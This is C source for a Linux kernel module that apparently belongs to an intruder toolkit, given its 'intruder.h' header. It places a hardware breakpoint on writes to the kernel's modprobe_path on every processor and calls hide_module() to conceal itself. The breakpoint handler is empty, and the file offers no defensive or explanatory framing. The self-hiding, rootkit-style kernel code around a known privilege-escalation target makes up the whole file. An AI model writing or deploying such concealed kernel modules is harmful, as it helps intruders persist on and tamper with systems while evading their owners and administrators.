/* A hardware breakpoint on writes to modprobe_path, on every processor; hides itself. */
#include "intruder.h"
#include <linux/hw_breakpoint.h>
#include <linux/perf_event.h>

static void hit(struct perf_event *event, struct perf_sample_data *data, struct pt_regs *registers) {}

static int __init begin(void) {
    struct perf_event *__percpu *events;
    struct perf_event_attr attributes;
    hw_breakpoint_init(&attributes);
    attributes.bp_addr = find("modprobe_path");
    attributes.bp_len = HW_BREAKPOINT_LEN_8;
    attributes.bp_type = HW_BREAKPOINT_W;
    hide_module();
    events = register_wide_hw_breakpoint(&attributes, hit, NULL);
    return IS_ERR((void __force *)events) ? PTR_ERR((void __force *)events) : 0;
}
module_init(begin);
